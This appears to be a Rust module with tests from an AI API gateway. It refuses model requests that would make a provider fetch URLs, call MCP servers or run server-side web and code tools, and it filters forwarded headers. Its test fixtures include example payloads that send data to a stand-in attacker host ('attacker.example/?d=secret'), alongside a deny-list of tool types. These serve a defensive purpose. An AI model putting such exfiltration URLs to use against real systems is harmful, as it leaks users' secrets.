//! What a model request may ask the provider to do on its own: nothing that reaches a host. A
//! provider fetches what a request names by URL (an image or document source of type `url`,
//! an `image_url` or `file_url`), calls the MCP servers it names, and runs its server-side web
//! and code tools from its own network, where the broker decides nothing; a request that asks
//! for any of these is refused whole. So are the headers a request carries beyond the few an
//! API reads to shape the answer (an organisation, a project or another key would reach an
//! account the program chose).

use serde_json::Value;

/// The request headers the gateway sends on (besides the key it puts on itself).
pub fn header_passes(name: &str) -> bool {
    matches!(
        name,
        "content-type"
            | "accept"
            | "accept-encoding"
            | "accept-language"
            | "user-agent"
            | "anthropic-version"
            | "anthropic-beta"
            | "openai-beta"
            | "x-app"
    ) || name.starts_with("x-stainless-")
}

/// Tool and block types a provider runs on its own network.
const SERVER_SIDE: [&str; 7] = [
    "web_search",
    "web_fetch",
    "code_execution",
    "mcp",
    "url_context",
    "bash_code_execution",
    "text_editor_code_execution",
];

/// Keys whose URL value the provider fetches.
const FETCHED: [&str; 5] = [
    "image_url",
    "file_url",
    "document_url",
    "audio_url",
    "video_url",
];

/// Why the provider would reach a host for this body; `None` when it would not. An empty
/// body is a read (`GET /v1/models`); anything else must be JSON.
pub fn reaches_out(body: &[u8]) -> Option<String> {
    if body.iter().all(u8::is_ascii_whitespace) {
        return None;
    }
    match serde_json::from_slice::<Value>(body) {
        Ok(value) => walk(&value),
        Err(e) => Some(format!("the request body is not JSON ({e})")),
    }
}

fn walk(value: &Value) -> Option<String> {
    match value {
        Value::Array(items) => items.iter().find_map(walk),
        Value::Object(map) => {
            for (key, v) in map {
                if let Some(why) = field(key, v) {
                    return Some(why);
                }
            }
            map.values().find_map(walk)
        }
        _ => None,
    }
}

fn is_remote(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    !lower.starts_with("data:")
}

fn field(key: &str, v: &Value) -> Option<String> {
    match (key, v) {
        ("mcp_servers" | "server_url" | "connector_id", Value::Null) => None,
        ("mcp_servers" | "server_url" | "connector_id", _) => Some(format!(
            "it names `{key}`: the provider would call a server the broker never decided"
        )),
        ("type", Value::String(t)) if t == "url" => Some(
            "it holds a source of type `url`, which the provider fetches from its own network"
                .to_owned(),
        ),
        ("type", Value::String(t)) if SERVER_SIDE.iter().any(|s| t.starts_with(s)) => Some(
            format!("it asks for `{t}`, a tool the provider runs on its own network"),
        ),
        (k, Value::String(url)) if FETCHED.contains(&k) && is_remote(url) => Some(format!(
            "its `{k}` names a URL the provider would fetch; send the bytes inline instead"
        )),
        (k, Value::Object(inner)) if FETCHED.contains(&k) => match inner.get("url") {
            Some(Value::String(url)) if is_remote(url) => Some(format!(
                "its `{k}` names a URL the provider would fetch; send the bytes inline instead"
            )),
            _ => None,
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_reaches_out_is_refused_and_plain_requests_pass() {
        for ok in [
            "",
            r#"{"model":"m","max_tokens":10,"stream":true,"messages":[{"role":"user","content":"see https://example.com/x"}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}"#,
            r#"{"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"messages":[]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}"#,
            r#"{"mcp_servers":null}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"tool_result","content":"the url type is fine as text"}]}]}"#,
        ] {
            assert_eq!(reaches_out(ok.as_bytes()), None, "{ok}");
        }
        for refused in [
            "not json",
            "{",
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://a.example/"}}]}]}"#,
            r#"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
            r#"{"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
            r#"{"tools":[{"type":"code_execution_20250522","name":"code_execution"}]}"#,
            r#"{"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}"#,
            r#"{"tools":[{"type":"mcp","server_url":"https://attacker.example/mcp"}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/i.png?d=1"}}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.example/i.png"}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/f.pdf"}]}]}"#,
            r#"{"tools":[{"type":"web_search_preview"}]}"#,
        ] {
            assert!(reaches_out(refused.as_bytes()).is_some(), "{refused}");
        }
        // Nested past serde_json's depth: refused, never a stack overflow.
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        assert!(reaches_out(deep.as_bytes()).is_some());
    }

    #[test]
    fn only_the_headers_an_api_reads_pass() {
        for ok in [
            "content-type",
            "anthropic-version",
            "anthropic-beta",
            "x-stainless-os",
            "accept",
        ] {
            assert!(header_passes(ok), "{ok}");
        }
        for dropped in [
            "x-api-key",
            "authorization",
            "cookie",
            "openai-organization",
            "openai-project",
            "api-key",
            "x-litellm-api-key",
            "expect",
            "content-length",
            "transfer-encoding",
            "x-forwarded-for",
        ] {
            assert!(!header_passes(dropped), "{dropped}");
        }
    }
}
